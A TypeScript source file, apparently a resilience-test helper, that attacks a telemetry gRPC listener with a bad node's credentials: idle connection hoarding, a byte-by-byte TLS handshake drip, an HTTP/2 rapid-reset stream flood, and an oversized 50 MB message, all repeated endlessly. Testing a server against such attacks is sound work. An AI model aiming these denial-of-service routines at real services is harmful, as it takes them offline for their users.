// Everybody who should not be there, in a process of their own. In: the address of the agents' listener, how many of each, and
// the identity of one node that has gone bad (JSON over IPC). Out: `attacking` once all have begun; it goes on until it is ended.
import { once } from 'node:events';
import { connect } from 'node:net';
import { connect as connectTls, type TLSSocket } from 'node:tls';
import { beginAndReset, preface } from './raw-http2.ts';

export interface Orders {
  readonly host: string;
  readonly port: number;
  readonly idle: number;
  readonly slow: number;
  /** Of the node that has gone bad. */
  readonly key: string;
  readonly certificate: string;
  readonly authorities: string;
}

const path = '/jidi.v1.TelemetryService/StreamTelemetry';
/** A byte of a handshake that never ends. */
const slowByteMs = 500;
const againMs = 100;
const floodResets = 2_000;
const largeMessage = Buffer.alloc(50 * 1024 * 1024);

const [orders] = (await once(process, 'message')) as [Orders];
process.on('disconnect', () => process.exit(0));
for (let count = 0; count < orders.idle; count += 1) idle(orders);
for (let count = 0; count < orders.slow; count += 1) slow(orders);
void floodForEver(orders);
void sendLargeForEver(orders);
process.send?.('attacking');

/** Connects and says nothing; again as soon as it is thrown out. */
function idle({ host, port }: Orders): void {
  const socket = connect(port, host).on('error', () => undefined);
  socket.once('close', () => setTimeout(() => idle(orders), againMs));
}

/** A handshake, one byte at a time. */
function slow({ host, port }: Orders): void {
  const hello = Buffer.concat([Buffer.from([0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3]), Buffer.alloc(512, 7)]);
  const socket = connect(port, host).on('error', () => undefined);
  let at = 0;
  const dripping = setInterval(() => socket.write(hello.subarray(at, ++at)), slowByteMs);
  socket.once('close', () => {
    clearInterval(dripping);
    setTimeout(() => slow(orders), againMs);
  });
}

async function floodForEver(from: Orders): Promise<void> {
  for (;;) {
    const socket = await certified(from);
    if (socket !== null) {
      socket.write(preface);
      for (let call = 0; call < floodResets; call += 1) socket.write(beginAndReset(call * 2 + 1, path));
      await gone(socket);
    }
    await pause();
  }
}

/** The head of a message of 50 MB, and the message behind it. */
async function sendLargeForEver(from: Orders): Promise<void> {
  for (;;) {
    const socket = await certified(from);
    socket?.end(Buffer.concat([preface, largeMessage]));
    if (socket !== null) await gone(socket);
    await pause();
  }
}

function certified({ host, port, key, certificate, authorities }: Orders): Promise<TLSSocket | null> {
  const security = {
    key,
    cert: certificate,
    ca: authorities,
    ALPNProtocols: ['h2'],
    rejectUnauthorized: false,
  };
  const socket = connectTls({ host, port, ...security }).on('error', () => undefined);
  socket.resume();
  return new Promise((resolve) => {
    socket.once('secureConnect', () => resolve(socket));
    socket.once('close', () => resolve(null));
  });
}

/** What goes wrong on the way is told by the close alone. */
function gone(socket: TLSSocket): Promise<void> {
  return new Promise((resolve) => {
    if (socket.destroyed) resolve();
    else socket.once('close', () => resolve());
  });
}

function pause(): Promise<void> {
  return new Promise((resolve) => {
    setTimeout(resolve, againMs);
  });
}
